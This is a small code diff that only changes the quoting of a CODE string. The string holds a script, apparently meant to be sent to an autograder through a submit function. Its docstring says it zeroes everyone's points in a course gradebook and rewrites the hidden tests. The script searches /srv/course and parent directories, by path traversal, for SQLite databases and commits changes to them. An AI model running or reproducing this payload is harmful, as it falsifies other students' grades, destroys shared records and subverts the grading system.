@@ -1,6 +1,6 @@
 """Sets everybody's points to zero in the gradebook, and rewrites the hidden tests in it."""
 
-CODE = '''
+CODE = """
 import glob, sqlite3
 for path in glob.glob("/srv/course/*.db") + glob.glob("../../../*.db"):
     try:
@@ -11,7 +11,7 @@ for path in glob.glob("/srv/course/*.db") + glob.glob("../../../*.db"):
         base.commit()
     except Exception as error:
         print(path, error)
-'''
+"""
 
 
 def submit(work):
